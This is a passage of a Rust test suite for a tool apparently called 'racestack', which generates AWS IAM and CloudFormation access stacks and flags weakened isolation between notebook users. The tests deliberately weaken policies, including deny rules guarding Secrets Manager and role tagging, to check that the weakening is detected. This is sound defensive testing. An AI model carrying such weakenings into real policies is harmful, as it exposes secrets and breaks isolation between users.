    };
    let baseline = |(settings, is_netless): (&'static str, bool)| {
        let edits: &[Edit<'static>] =
            if is_netless { &[NO_NOTEBOOK_BOUNDARY] } else { &[(NOTEBOOK, STATEMENT, STATEMENT)] };
        let findings = synth_of(ROSTER, settings, "baseline", edits);
        let is_clean = !findings.iter().any(|finding| finding.contains("isolation::") && !finding.contains("unbound"));
        assert!(is_netless || is_clean, "{settings}: {findings:?}");
        ((settings, is_netless), findings)
    };
    let known: BTreeMap<_, _> = weakenings
        .iter()
        .copied()
        .map(of)
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .map(baseline)
        .collect();
    // A run leaves cores idle: several at once take half the time.
    let missed: Vec<String> = std::thread::scope(|scope| {
        let missed_of = |some: &'_ [&Weakening]| some.iter().filter_map(|one| missed(one, &known)).collect::<Vec<_>>();
        let parts: Vec<_> =
            weakenings.chunks(weakenings.len() / 2 + 1).map(|some| scope.spawn(move || missed_of(some))).collect();
        parts.into_iter().flat_map(|part| part.join().unwrap()).collect()
    });
    assert!(missed.is_empty(), "{} of {}\n{}", missed.len(), weakenings.len(), missed.join("\n"));
}

#[test]
fn what_a_notebook_is_allowed_besides_is_found() {
    check(&of_notebooks());
}

#[test]
fn every_net_is_missed() {
    check(&[of_guardrails(), of_boundaries()].into_iter().flatten().collect::<Vec<_>>());
}

#[test]
fn weakened_settings_are_found() {
    check(&[of_settings(), of_old_keys()].into_iter().flatten().collect::<Vec<_>>());
}

#[test]
fn other_ways_are_found() {
    check(&of_resources());
}

#[test]
fn names_in_paths_and_networks_are_found() {
    check(&[more::of_names(), more::of_networks()].into_iter().flatten().collect::<Vec<_>>());
}

#[test]
fn what_services_do_and_passwords_are_found() {
    check(&[more::of_services(), more::of_passwords()].into_iter().flatten().collect::<Vec<_>>());
}

#[test]
fn what_a_day_needs_is_found() {
    check(&[more::of_needs(), more::of_named()].into_iter().flatten().collect::<Vec<_>>());
}

#[test]
fn what_is_certain_of_the_day_is_found() {
    check(&certain::of_certain());
}

#[test]
fn what_hangs_on_two_names_that_are_the_same_is_found() {
    check(&more::of_coincidences());
    check(&more::of_stack_tags());
    // A team that is named like one of its people.
    let denial = "{\"Effect\": \"Deny\", \"Action\": \"s3:ListBucket\", \"Resource\": \"*\", \"Condition\": {\"StringLike\": {\"s3:prefix\": \"${aws:PrincipalTag/team}/*\"}}}";
    let of_teams = |denial: &str| {
        let first = format!("{STATEMENT}{denial}");
        let settings = "bucket: {team_folders: true}\n";
        synth_of(b"name,team\nbob,red\nred,red\n", settings, "teams", &[(DAILY_WORK, STATEMENT, &first)])
    };
    let isolation = of_teams("").into_iter().filter(|finding| finding.contains("isolation::")).collect::<Vec<_>>();
    assert_eq!(isolation, Vec::<String>::new());
    let found = of_teams(&format!("{denial},"));
    let is_it = |finding: &String| finding.starts_with(REFUSED) && finding.contains("`red` cannot list");
    assert!(found.iter().any(is_it), "{found:?}");
    // A tag whose key has a colon, and which one of them has.
    let denial = "{\"Effect\": \"Deny\", \"Action\": \"sagemaker:*Notebook*\", \"Resource\": \"*\", \"Condition\": {\"StringEquals\": {\"aws:ResourceTag/dept:name\": \"x1\"}}},";
    let first = format!("{STATEMENT}{denial}");
    let found = synth_of(b"name,tags.dept:name\nbob,x1\nred,x2\n", "", "colon", &[(DAILY_WORK, STATEMENT, &first)]);
    let is_it = |finding: &String| finding.starts_with(REFUSED) && finding.contains("`bob` cannot open, start");
    assert!(found.iter().any(is_it), "{found:?}");
}

#[test]
fn what_is_not_as_built_in_is_found() {
    check(&more::of_own());
}

#[test]
fn what_stands_beside_racestacks_own_is_found() {
    check(
        &[beside::of_besides(), beside::of_changes(), vec![beside::of_actions()]]
            .into_iter()
            .flatten()
            .collect::<Vec<_>>(),
    );
}

#[test]
fn what_is_as_narrow_is_not_reported() {
    for Weakening { name, settings, edits, .. } in
        in_short(more::harmless().into_iter().chain(beside::harmless()).chain(certain::harmless()), 3)
    {
        let edits: Vec<Edit<'_>> = edits.iter().map(|(file, from, to)| (*file, from.as_str(), to.as_str())).collect();
        let findings = synth_of(ROSTER, settings, &name, &edits);
        // What racestack's own name must be there; what stands beside may be about others.
        let is_beside = edits.iter().all(|(file, ..)| *file == STORAGE);
        let rules = &["isolation::", "reference::"][..if is_beside { 2 } else { 1 }];
        let is_it = |finding: &&String| rules.iter().any(|rule| finding.contains(rule));
        let found: Vec<&String> = findings.iter().filter(is_it).collect();
        assert!(found.is_empty(), "{name}: {found:?}");
    }
}

#[test]
fn what_the_policies_grant_is_needed() {
    let settings = format!(
        "policies: hardened\nconsole: true\n{MFA}bucket: {{shared_folders: [materials], team_folders: true}}\n"
    );
    let workspace = Workspace::new(&settings, "roster.csv", b"name,team\nbob,red\n");
    let resources = resources(&workspace.synthesised()["access.yaml"]);
    let properties = |id: &str| common::json(&resources[id])["Properties"].clone();
    let list = |value: &Json| value.as_array().cloned().unwrap_or_else(|| vec![value.clone()]);
    let allowed = |policy: &Json| -> BTreeSet<String> {
        let statements = list(&policy["Statement"]).into_iter().filter(|one| one["Effect"] == "Allow");
        statements.flat_map(|one| list(&one["Action"])).map(|action| action.as_str().unwrap().to_owned()).collect()
    };
    let of_group: Vec<Json> = list(&properties("Group")["ManagedPolicyArns"]);
    let of_group = of_group.iter().map(|one| one.as_object().unwrap().values().next().unwrap().as_str().unwrap());
    for (kind, policies) in
        [("person", of_group.collect()), ("notebook", vec!["NotebookPolicy", "SharedFoldersPolicy"])]
    {
        let granted: BTreeSet<String> =
            policies.iter().flat_map(|id| allowed(&properties(id)["PolicyDocument"])).collect();
        let config = workspace.path("config");
        let of = ["limits", "--config", config.to_str().unwrap(), "--account", "tokyo", "--kind", kind];
        let outcome = racestack(&[&of[..], &["--needs"]].concat());
        let needed = allowed(&serde_json::from_str(&outcome.stdout).unwrap());
        let not_needed: Vec<&String> = granted.difference(&needed).collect();
        assert!(granted.len() > 20 && not_needed.is_empty(), "{kind}: {not_needed:?} of {granted:?}");
    }
}

#[test]
fn a_denial_of_what_nothing_allows_is_not_missed() {
    // Without the tag, the denial that compares the role's name with it holds: an inverted operator matches what has no value.
    let twice = voided("DenyWithoutTag");
    let denial = |sid: &str, action: &str| {
        let start = format!("\"Sid\": \"{sid}\",\n      \"Effect\": \"Deny\",\n      \"Action\": {action}");
        (
            NOTEBOOK_BOUNDARY,
            start.clone(),
            start.replace("iam:TagRole", "nothing:A").replace("secretsmanager:*", "nothing:B"),
        )
    };
    let edits = [
        twice,
        denial("DenyIdentityTags", "[\n        \"iam:TagRole\""),
        denial("DenyFirstPasswords", "\"secretsmanager:*\""),
    ];
    for (file, from, to) in &edits {
        let findings = synth_of(ROSTER, "", from, &[(file, from, to)]);
        assert!(!findings.iter().any(|finding| finding.contains("isolation::")), "{from}: {findings:?}");
    }
}

#[test]
fn somebody_may_answer_for_another_start_script_and_for_nothing_else() {
    let script: Edit<'static> = ("scripts/notebook-on-start.sh", "set -u\n", "set -u\necho more\n");
    let workspace = edited(ROSTER, "", "a longer script", &[script]);
    let suppression = "- {rule: \"isolation::undecided\", resource: tokyo/notebooks/NotebookLifecycle, reason: read, owner: Aoi, expires: 2027-01-01}\n";
    workspace.write("config/suppressions.yaml", suppression.as_bytes());
    let outcome = workspace.synth(&["--today", "2026-12-01"]);
    assert_eq!(outcome.code, 0, "{}", outcome.stderr);
    assert!(!outcome.stderr.contains(DOUBTFUL), "{}", outcome.stderr);
    let outcome = workspace.synth(&["--today", "2027-01-02"]);
    assert!(outcome.stderr.contains(DOUBTFUL), "{}", outcome.stderr);
}

#[test]
fn a_bucket_without_a_policy_is_told_of_once() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/templates/stacks/storage.yaml.hbs");
    let text = std::fs::read_to_string(path).unwrap();
    let (before, policy) = text.split_once("\n  BucketPolicy:\n").unwrap();
    let (_, after) = policy.split_once("\n\n").unwrap();
    let without = format!("{before}\n\n{after}");
    let workspace = edited(ROSTER, "", "no policy", &[(STORAGE, &text, &without)]);
    let outcome = workspace.synth(&[]);
    assert!(outcome.stderr.contains("the bucket has no policy"), "{}", outcome.stderr);
    assert_eq!(outcome.stderr.matches("error[").count(), 1, "{}", outcome.stderr);
}

#[test]
fn what_a_policy_is_filled_with_from_elsewhere_is_told_of_once() {
    let statement =
        "[{Effect: Allow, Principal: {AWS: \"\\{{resolve:ssm:/any}}\"}, Action: \"kms:*\", Resource: \"*\"}]";
    for policy in [
        "\"\\{{resolve:ssm:/any}}\"",
        "!Sub \"\\{{resolve:ssm:/any}}\"",
        &format!("{{Version: \"2012-10-17\", Statement: {statement}}}"),
        &format!("{{Version: \"2012-10-17\", Statement: {}}}", statement.trim_matches(['[', ']'])),
    ] {
        let key = format!("Resources:\n  Key:\n    Type: AWS::KMS::Key\n    Properties: {{KeyPolicy: {policy}}}\n\n");
        let found = synth_of(ROSTER, "", policy, &[(STORAGE, "Resources:\n", &key)]);
        let of_key: Vec<&String> = found.iter().filter(|one| one.contains("error[")).collect();
        assert!(of_key.len() == 1 && of_key[0].starts_with(UNDECIDED), "{policy}: {of_key:?}");
    }
}

#[test]
fn a_tag_that_all_people_of_a_roster_have_alike_is_certain_of_each() {
    let denial = "{\"Effect\": \"Deny\", \"Action\": \"sagemaker:StartNotebookInstance\", \"Resource\": \"*\", \"Condition\": {\"StringNotEquals\": {\"aws:ResourceTag/CostCenter\": \"4711\"}}},";
    let first = format!("{STATEMENT}{denial}");
    let refused_with = |settings: &str, roster: &str| {
        let found = synth_of(roster.as_bytes(), settings, roster, &[(DAILY_WORK, STATEMENT, &first)]);
        found.into_iter().filter(|finding| finding.contains("isolation::")).collect::<Vec<_>>()
    };
    let refused = |roster: &str| refused_with("", roster);
    assert_eq!(refused("name,tags.CostCenter\nbob,4711\nzoe,4711\n"), Vec::<String>::new());
    // Somebody is the only one of their shape, and all others have it, too.
    assert_eq!(
        refused("name,tags.CostCenter,state\nbob,4711,\neve,4711,suspended\nmei,4711,suspended\n"),
        Vec::<String>::new()
    );
    // Whoever has none or another, or who may soon have another.
    for roster in [
        "name,tags.CostCenter\nbob,4711\nzoe,5000\n",
        "name,tags.CostCenter\nbob,4711\nmei,4711\nzoe,\n",
        "name,tags.CostCenter\nbob,5000\nzoe,5000\n",
        "name,tags.CostCenter\nbob,4711\n",
        "name,tags.CostCenter,state\nbob,4711,\neve,5000,suspended\n",
    ] {
        let found = refused(roster);
        assert!(found.iter().any(|finding| finding.starts_with(REFUSED)), "{roster}: {found:?}");
    }
    // The settings say it of another tag.
    let found = refused_with("tags: {Project: \"4711\"}\n", "name,tags.CostCenter\nbob,4711\n");
    assert!(found.iter().any(|finding| finding.starts_with(REFUSED)), "{found:?}");
}
